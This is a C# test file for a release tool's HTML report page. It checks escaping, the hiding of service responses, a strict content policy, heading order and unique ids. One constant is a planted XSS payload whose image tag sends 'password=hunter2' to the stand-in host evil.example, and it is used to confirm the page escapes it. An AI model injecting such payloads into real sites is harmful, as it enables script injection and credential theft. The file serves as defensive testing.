using System.Text.RegularExpressions;
using ReleaseInfra.Cli.Reports.Page;
using ReleaseInfra.Domain.Journal.Entries;
using ReleaseInfra.Domain.Rollouts.Events;
using ReleaseInfra.Release.Tests.Display;
using ReleaseInfra.Tests.Support.Journals;

namespace ReleaseInfra.Release.Tests.Reports.Page;

public sealed partial class ReportPageTests
{
    private const string Planted = "</td></table><script>alert(document.domain)</script><img src=http://evil.example/?password=hunter2 onerror=alert(1)>";

    [Test]
    public void Page_SaysWhatHappened_InThisOrder() => Assert.That(Texts(ReportPage.Text(ReportedReleases.Of(Watched.TurnedBack()))).Replace('\u00a0', ' '), Is.EqualTo(
        """
        Release of production
        v1.2.3 was rolled back
        60 of 1000 requests failed (6 %), limit 5 %.
        Old versions have all traffic of production again, 3s after the decision.
        ann@laptop, 2026-11-21 12:00:00Z: the new search
        Figures
        Timeline
        States
        Gates
        Way back
        Journal
        Origin
        Key figures
        Took
        10m9s
        Decision to full rollback
        3s
        Highest weight
        10 %
        of traffic on a new version
        Measurements judged
        3
        1 failed, 0 without a verdict
        Timeline
        """));

    [Test]
    public void Text_OfOthers_IsTextAlone()
    {
        var began = Beginnings.Web with { By = Planted, Why = Planted };
        var story = ReleaseStory.Of(began)
            .Then(new NoteWritten(Planted, Planted))
            .Then(new WayBackJudged("web", [], [Planted]))
            .Then(new WorkFailed(Planted));
        var report = ReportedReleases.Of(story) with
        {
            Observed = new Observed
            {
                Versions = [new ObservedVersion("web", Planted, IsNew: true, [])],
                Clients = new ClientFigures(0, 0, 0, 0, null),
                Faults = [new PlayedFault(Planted, Planted)],
                Compression = 1,
            },
        };
        var page = ReportPage.Text(report);

        Assert.That(page, Does.Contain("&lt;script&gt;alert(document.domain)&lt;/script&gt;"));
        Assert.That(Elements().Matches(page).Select(element => element.Groups[1].Value), Has.None.EqualTo("img"));
        Assert.That(Elements().Matches(page).Count(element => element.Groups[1].Value == "script"), Is.EqualTo(1));
    }

    /// <summary>The answers of services hold cookies and pages of users; what a gate saw of them is all that may be told.</summary>
    [Test]
    public void Answers_AreNeverShown()
    {
        var story = Watched.Baking();
        foreach (var look in Looks.All)
            story.Then(Judged.Of("GET /api/orders", "web", look, 0, Domain.Journal.Numbers.Comparison.None));
        var page = ReportPage.Text(ReportedReleases.Of(story));

        Assert.That(page, Does.Contain("header x-version is not &#39;v1.2.3&#39;"));
        Assert.That(page, Does.Not.Contain("session").And.Not.Contain("Secret"));
    }

    [Test]
    public void Page_HasNothingFromElsewhere()
    {
        foreach (var report in (ReleaseReport[])[ReportedReleases.Good(), ReportedReleases.TurnedBack(), ReportedReleases.Held()])
        {
            var page = ReportPage.Text(report);

            Assert.That(page, Does.Contain("default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;; script-src &#39;unsafe-inline&#39;; img-src data:"));
            Assert.That(References().Matches(page).Select(reference => reference.Value), Is.Empty);
        }
    }

    [Test]
    public void Headings_GoDownOneByOne()
    {
        foreach (var report in (ReleaseReport[])[ReportedReleases.Good(), ReportedReleases.TurnedBack(), ReportedReleases.Held()])
        {
            var levels = Headings().Matches(ReportPage.Text(report)).Select(heading => heading.Groups[1].Value[0] - '0').ToArray();

            Assert.That(levels.Count(level => level == 1), Is.EqualTo(1));
            Assert.That(levels.Zip(levels.Skip(1)).Where(pair => pair.Second > pair.First + 1), Is.Empty);
        }
    }

    [Test]
    public void Ids_AreGivenOnce()
    {
        var ids = Ids().Matches(ReportPage.Text(ReportedReleases.TurnedBack())).Select(id => id.Groups[1].Value).ToArray();

        Assert.That(ids, Is.Unique);
        Assert.That(ids, Does.Contain("timeline").And.Contain("faults"));
    }

    [Test]
    public async Task WriteAsync_WhereItCannot_SaysSo()
    {
        using var folder = new ReleaseInfra.Tests.Support.TemporaryFolder();
        var taken = Path.Combine(folder.Path, "taken");
        await File.WriteAllTextAsync(taken, "");

        var failure = Assert.ThrowsAsync<Cli.ReleaseFailure>(() =>
            ReportPage.WriteAsync(ReportedReleases.Good(), Path.Combine(taken, "report.html"), CancellationToken.None));

        Assert.That(failure!.Code, Is.EqualTo(Cli.ExitCode.EngineFailed));
        Assert.That(failure.Message, Does.StartWith($"{Path.Combine(taken, "report.html")} cannot be written: "));
    }

    /// <summary>Up to the first chart, a line each.</summary>
    private static string Texts(string page)
    {
        var body = page[page.IndexOf("<body", StringComparison.Ordinal)..page.IndexOf("<h3>", StringComparison.Ordinal)];
        return string.Join('\n', Tags().Split(body).Where(text => text.Length > 0));
    }

    [GeneratedRegex("<[^>]*>")]
    private static partial Regex Tags();

    [GeneratedRegex("<([a-z]+)[ >]")]
    private static partial Regex Elements();

    [GeneratedRegex("<h([1-6])[ >]")]
    private static partial Regex Headings();

    [GeneratedRegex("\\bid=\"([^\"]*)\"")]
    private static partial Regex Ids();

    [GeneratedRegex("""<link|@import|url\(|\bsrc=|\bhref="(?!#)|https?:|fetch\(|XMLHttpRequest|\bimport\b""")]
    private static partial Regex References();
}
